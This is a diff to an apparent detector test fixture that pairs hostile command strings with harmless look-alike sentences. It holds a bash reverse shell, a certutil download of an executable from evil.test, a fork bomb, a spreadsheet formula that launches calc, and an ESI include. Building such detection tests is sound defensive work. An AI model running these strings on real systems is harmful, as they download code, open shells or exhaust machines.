@@ -13,6 +13,11 @@ export const COMMAND_EXAMPLES: Examples = {
   'command.reverse-shell': ['bash -i >& /dev/tcp/10.0.0.1/99', 'The device is /dev/ttyUSB0 here.'],
   'command.interpreter-argument': ["perl -e 'print 1'", 'perl is an eclectic language.'],
   'command.editor-escape': ['vim -c ":!ls"', 'vim is an editor!'],
+  'command.built-in-tool': [
+    'certutil -urlcache -f http://evil.test/x.exe',
+    'The certutil tool reads certificates.',
+  ],
+  'command.exhaustion': ['x(){ x|x& };x', 'f(x) { g | h }'],
   'command.runner-prefix': ['nice -n 9 whoami', 'It would be nice to know who I am.'],
   'command.interpreter-path': ["/usr/bin/python3 -c 'x'", 'Python lives in /usr/bin/python3 there.'],
   'command.walks-to-accounts': [
@@ -31,5 +36,7 @@ export const COMMAND_EXAMPLES: Examples = {
   'command.system-call': ["system('id');", 'The system (id 7) is down.'],
   'command.script-literal': ['@{[system "x"]}', 'Write {[x]} in the template.'],
   'command.php-source': ['<?php echo 1;?>', '<?xml version="1.0"?><a></a>'],
+  'command.formula': ["=cmd|'/C calc'!A0", '=SUM(A1:A9) adds a column.'],
+  'command.edge-include': ['<esi:include src="http://evil.test/"/>', 'The ESI includes all of these.'],
   'command.server-side-include': ['<!--#exec cmd="x"-->', '<!-- a comment -->'],
 };
